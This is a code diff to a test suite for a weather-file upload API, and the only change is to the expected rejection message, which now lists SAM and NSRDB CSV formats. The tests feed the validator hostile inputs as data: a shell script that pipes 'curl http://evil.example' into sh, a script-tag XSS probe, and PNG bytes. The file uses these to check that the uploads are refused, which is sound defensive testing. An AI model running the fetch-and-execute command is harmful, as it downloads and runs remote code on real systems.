@@ -92,7 +92,7 @@ describeApi('weather file uploads', () => {
       return answer.body;
     };
     const script = await refuse(weatherForm('#!/bin/sh\ncurl http://evil.example | sh\n', 'site.epw'), 415);
-    expect(script.detail).toBe('This is not a weather file the engine can read. Upload a TMY3 CSV, TMY2, EPW, or a PVGIS typical year as JSON, CSV or EPW.');
+    expect(script.detail).toBe('This is not a weather file the engine can read. Upload a TMY3 CSV, TMY2, EPW, a SAM or NSRDB CSV, or a PVGIS typical year as JSON, CSV or EPW.');
     expect((await refuse(weatherForm('<script>alert(1)</script>', 'tmy.csv'), 415)).detail).toContain('not a weather file');
     const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
     expect((await refuse(weatherForm(png, 'tmy.epw'), 415)).detail).toContain('This is not a text file.');
